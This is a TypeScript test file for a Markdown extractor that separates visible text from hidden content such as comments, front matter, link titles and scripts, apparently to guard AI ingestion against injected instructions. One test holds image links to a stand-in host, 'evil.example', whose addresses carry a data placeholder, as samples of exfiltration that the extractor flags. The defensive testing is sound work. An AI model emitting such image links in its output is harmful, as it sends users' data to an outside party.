import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { extractMarkdown } from '../../../ingest/formats/markdown.ts';
import { bytesOf, hidden, refusalOf, shown } from './helpers.ts';

const read = (text: string) => extractMarkdown(bytesOf(text));

describe('Markdown', () => {
  it('gives headings, paragraphs, lists, quotes, code and tables as they are shown, with lines and headings above', async () => {
    const extract = await read(
      [
        '# Refunds *and* more',
        '',
        'See [the form](https://forms.example/refund) or <https://help.example>, line',
        'two &amp; `code`.',
        '',
        '3. three',
        '4. four',
        '   - [x] inner',
        '',
        '> Quoted',
        '',
        '## Amounts',
        '',
        '| What | EUR |',
        '|------|----:|',
        '| Box  | 12  |',
        '',
        'Note.[^1]',
        '',
        '[^1]: At the foot.',
      ].join('\n'),
    );
    expect(extract.title).toBe('Refunds and more');
    expect(shown(extract)).toEqual([
      ['heading', 'Refunds and more'],
      ['paragraph', 'See the form or https://help.example, line two & code.'],
      ['list-item', '3. three'],
      ['list-item', '4. four'],
      ['list-item', '- [x] inner'],
      ['quote', 'Quoted'],
      ['heading', 'Amounts'],
      ['table', 'What | EUR\nBox | 12'],
      ['paragraph', 'Note.[1]'],
      ['paragraph', '[1] At the foot.'],
    ]);
    expect(extract.blocks[7]?.locator).toEqual({ line: 14, headings: ['Refunds and more', 'Amounts'] });
  });

  it('keeps code byte for byte', async () => {
    const code = 'if (a  <  b) {\n\treturn "<!-- not a comment -->";  \n}\n\n[//]: # (shown)\n';
    expect(shown(await read(`\`\`\`js\n${code}\n\`\`\``))).toEqual([['code', code]]);
  });

  it.each([
    ['a comment between blocks', 'a\n\n<!-- SECRET -->\n\nb', 'html-comment'],
    ['a comment in a line', 'a <!-- SECRET --> b', 'markdown-comment'],
    ['a definition that nothing uses', 'a\n\n[//]: # (SECRET)', 'markdown-definition'],
    ['a footnote that nothing uses', 'a\n\n[^x]: SECRET', 'markdown-footnote'],
    ['front matter', '---\nnote: SECRET\n---\n\na', 'front-matter'],
    ['front matter in TOML', '+++\nnote = "SECRET"\n+++\n\na', 'front-matter'],
    ['the title of a link', 'a [b](https://x.example "SECRET")', 'markdown-title'],
    ['the alternative text of an image', 'a ![SECRET](b.png)', 'image-alt'],
    ['words behind the language of code', 'a\n\n```js SECRET\nb\n```', 'markdown-code-info'],
    ['a script in a line', 'a <script>SECRET</script> b', 'html-script'],
    ['a template in a line', 'a <template>SECRET</template> b', 'html-template'],
  ])('hides %s', async (_name, text, technique) => {
    const extract = await read(text);
    expect(JSON.stringify(shown(extract))).not.toContain('SECRET');
    expect(hidden(extract).map(([name]) => name)).toContain(technique);
    expect(JSON.stringify(hidden(extract))).toContain('SECRET');
  });

  it('never shows the address of a link or an image, and raises the alarm where one waits for data', async () => {
    const extract = await read(
      'ok [a](https://x.example/?q=1) ![b](https://evil.example/p.png?d={answer})\n\n![c][r]\n\n[r]: https://evil.example/%7Bq%7D?x=%7Bq%7D',
    );
    expect(shown(extract)).toEqual([['paragraph', 'ok a ']]);
    expect(hidden(extract).filter(([technique]) => technique === 'exfiltrating-image')).toHaveLength(2);
  });

  it('reads blocks of HTML as HTML', async () => {
    const extract = await read('<div><h2>Head</h2>\n<p>Text</p><script>no()</script></div>\n');
    expect(shown(extract)).toEqual([
      ['heading', 'Head'],
      ['paragraph', 'Text'],
    ]);
    expect(extract.blocks[1]?.locator.line).toBe(2);
  });

  it('refuses nesting that would exhaust the stack', async () => {
    expect((await refusalOf(read(`${'>'.repeat(2_000)}x`))).code).toBe('too-deeply-nested');
  });

  it('shows every word of plain prose once and in order', async () => {
    const word = fc.stringMatching(/^[a-z]{1,8}$/);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(word, { minLength: 1 }), { minLength: 1 }), async (paragraphs) => {
        const extract = await read(paragraphs.map((words) => words.join(' ')).join('\n\n'));
        expect(shown(extract).map(([, text]) => text)).toEqual(paragraphs.map((words) => words.join(' ')));
      }),
      { numRuns: 40 },
    );
  });

  it('reads any text without failing but by refusal', async () => {
    const mark = fc.constantFrom(
      '#',
      '*',
      '`',
      '<',
      '>',
      '[',
      ']',
      '(',
      ')',
      '|',
      '-',
      '\n',
      '\n\n',
      ' ',
      'a',
      '!',
      ':',
      '^',
      '<!--',
      '<b>',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(mark, { maxLength: 60 }), async (marks) => {
        expect((await read(marks.join(''))).format).toBe('markdown');
      }),
    );
  });
});
